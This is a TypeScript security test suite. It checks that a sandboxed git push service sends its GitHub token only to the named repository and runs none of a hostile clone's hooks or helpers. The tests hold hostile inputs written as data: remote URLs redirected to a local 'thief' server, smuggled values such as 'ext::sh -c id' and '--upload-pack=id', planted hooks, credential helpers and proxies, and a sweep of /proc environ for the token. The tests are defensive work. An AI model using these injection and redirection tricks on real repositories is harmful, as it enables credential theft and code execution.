import { stat } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type DevGitHub, type RepositoryHandle, startGitHub } from "../../dev/github/index.ts";
import type { Box } from "../../src/box/index.ts";
import { type TestEngine, testEngine } from "../support/test-engine.ts";

// What runs in a box may write anything into its clone. The push happens outside of it, with a token.

/** Names a host that the operator allows, and that gets every request of a thief's remote. */
const thief = createServer((request, response) => {
  stolen.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
  response.writeHead(404).end();
});
const stolen: string[] = [];

let github: DevGitHub;
let host: TestEngine;
let token: string;
let thiefUrl: string;
beforeAll(async () => {
  await new Promise<void>((resolve) => thief.listen(0, "127.0.0.1", resolve));
  thiefUrl = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
  github = await startGitHub();
  token = github.createUser({ login: "owner" }).token;
  const allowedHosts = [new URL(github.url).host, new URL(thiefUrl).host];
  host = await testEngine({ allowedHosts });
});
afterAll(async () => {
  await host[Symbol.asyncDispose]();
  await github.close();
  await new Promise((resolve) => thief.close(resolve));
  expect(host.errors).toEqual([]);
  expect(stolen).toEqual([]);
});

let repositories = 0;
async function clone(): Promise<{ box: Box; remote: RepositoryHandle }> {
  const name = `site-${++repositories}`;
  const files = { "README.md": "# Site\n" };
  const remote = await github.createRepository({ owner: "owner", name, private: true, files });
  const box = await host.box({ git: { token } });
  await box.git.clone({ repo: remote.cloneUrl });
  await box.cd(name);
  await box.files.write({ path: "work.txt", content: "work\n" });
  return { box, remote };
}

async function post(box: Box, route: "push" | "create-pr", body: object = {}) {
  const response = await host.request(`/${box.id}/git/${route}`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ folder: box.cwd, title: "T", ...body }),
  });
  return { status: response.status, body: (await response.json()) as { sha?: string } };
}

async function isThere(path: string): Promise<boolean> {
  return stat(path).then(
    () => true,
    () => false,
  );
}

describe("a push from a hostile clone", () => {
  it("sends the token nowhere but to the repository that the client named", async () => {
    const { box, remote } = await clone();
    await box.git.commit({ message: "Work" });
    const turned = [
      `git remote set-url origin ${thiefUrl}/owner/site`,
      `git remote set-url origin ${remote.cloneUrl}; git config url.${thiefUrl}/.insteadOf ${new URL(remote.cloneUrl).origin}/`,
      `git config --unset-all url.${thiefUrl}/.insteadOf; git config --replace-all remote.origin.url ${thiefUrl}/a/b`,
    ];
    for (const command of turned) {
      await box.exec.command(command);
      for (const route of ["push", "create-pr"] as const) {
        expect(await post(box, route)).toMatchObject({
          status: 400,
          body: { error: expect.stringMatching(/was set inside the box/) },
        });
      }
    }
    for (const url of [
      "file:///etc",
      "ext::sh -c id",
      "/etc",
      `--upload-pack=id ${thiefUrl}/a/b`,
    ]) {
      await box.git.exec({ args: ["config", "--replace-all", "remote.origin.url", url] });
      expect((await post(box, "push")).status).toBe(400);
    }
  });

  it("runs no hook, helper, proxy or program of the clone outside of the box", async () => {
    const { box, remote } = await clone();
    const sign = `/tmp/ran-${process.pid}-${repositories}`;
    const { exitCode, stderr } = await box.exec.command(`
      printf '#!/bin/sh\\necho ran >> ${sign}\\n' > /tmp/trap && chmod +x /tmp/trap
      mkdir -p /tmp/hooks
      for hook in pre-push reference-transaction update pre-receive post-update; do cp /tmp/trap /tmp/hooks/$hook; cp /tmp/trap .git/hooks/$hook; done
      git config core.hooksPath /tmp/hooks
      git config core.fsmonitor /tmp/trap
      git config core.sshCommand /tmp/trap
      git config credential.helper /tmp/trap
      git config http.proxy ${thiefUrl}
      git config remote.origin.proxy ${thiefUrl}
      git config remote.origin.pushurl ${thiefUrl}/a/b
      git config remote.origin.receivepack /tmp/trap
      git config uploadpack.packObjectsHook /tmp/trap
      git config push.followTags true
      git config alias.push '!/tmp/trap'
      git -c user.name=a -c user.email=a@b.c -c core.hooksPath=/dev/null -c core.fsmonitor=false commit -qam x --allow-empty
    `);
    expect(stderr).toBe("");
    expect(exitCode).toBe(0);
    const pushed = await post(box, "push");
    expect(pushed).toMatchObject({ status: 200, body: { branch: "main" } });
    expect((await remote.branches()).main).toBe(pushed.body.sha);
    expect(await isThere(sign)).toBe(false);
  });

  it("takes what the box reads as the clone and nothing of the host, wherever links lead", async () => {
    const { box } = await clone();
    await box.exec.command(`rm -rf .git && ln -s ${process.cwd()}/.git .git`);
    expect(await post(box, "push")).toMatchObject({
      status: 400,
      body: { error: expect.stringMatching(/not a git repository/) },
    });
    const other = await clone();
    await other.box.git.commit({ message: "Work" });
    // Objects lent from a folder of the host: there is none in the box, and the push has its own.
    await other.box.exec.command(
      `mkdir -p .git/objects/info && echo ${process.cwd()}/.git/objects > .git/objects/info/alternates`,
    );
    expect((await post(other.box, "push")).status).toBe(200);
  });

  it("refuses commits that are not sound, and those of which something is missing", async () => {
    const { box, remote } = await clone();
    const before = await remote.branches();
    const { exitCode } = await box.exec.command(`
      blob=$(echo evil | git hash-object -w --stdin)
      inner=$(printf "100644 blob $blob\\tconfig\\n" | git mktree)
      tree=$(printf "040000 tree $inner\\t.git\\n" | git mktree)
      commit=$(git -c user.name=a -c user.email=a@b.c commit-tree -m x $tree)
      git update-ref refs/heads/dot-git $commit
      tree=$(printf '100644 blob 1111111111111111111111111111111111111111\\tgone\\n' | git mktree --missing)
      commit=$(git -c user.name=a -c user.email=a@b.c commit-tree -p HEAD -m x $tree)
      git update-ref refs/heads/missing $commit
    `);
    expect(exitCode).toBe(0);
    expect(await post(box, "push", { branch: "dot-git" })).toMatchObject({
      status: 400,
      body: { error: expect.stringMatching(/not sound.*\.git/s) },
    });
    expect((await post(box, "push", { branch: "missing" })).status).toBe(400);
    expect(await remote.branches()).toEqual(before);
  });

  it("believes no git of the box: another commit than the one named does not go out", async () => {
    const { box, remote } = await clone();
    const before = await remote.branches();
    const { exitCode } = await box.exec.command(`
      mkdir -p ~/.local/bin /workspace/home/bin
      git config --global alias.pack-objects '!echo forged'
      git config --global core.pager /bin/false
      git update-ref refs/heads/same HEAD
      git replace --graft HEAD 2>/dev/null || true
    `);
    expect(exitCode).toBe(0);
    expect((await post(box, "push", { branch: "same" })).status).toBe(200);
    expect((await remote.branches()).same).toBe(before.main);
    expect((await remote.branches()).main).toBe(before.main);
  });

  it("leaves the token in no file, environment or argument of the box", async () => {
    const { box } = await clone();
    await box.git.commit({ message: "Work" });
    expect((await post(box, "push")).status).toBe(200);
    const { stdout } = await box.exec.command(
      "env; git config -l; grep -r . ~ /tmp .git 2>/dev/null; cat /proc/*/environ /proc/*/cmdline 2>/dev/null",
    );
    expect(stdout).not.toContain(token);
    expect(stdout).not.toContain(Buffer.from(`x-access-token:${token}`).toString("base64"));
    expect(stdout).toContain("work");
  });
});
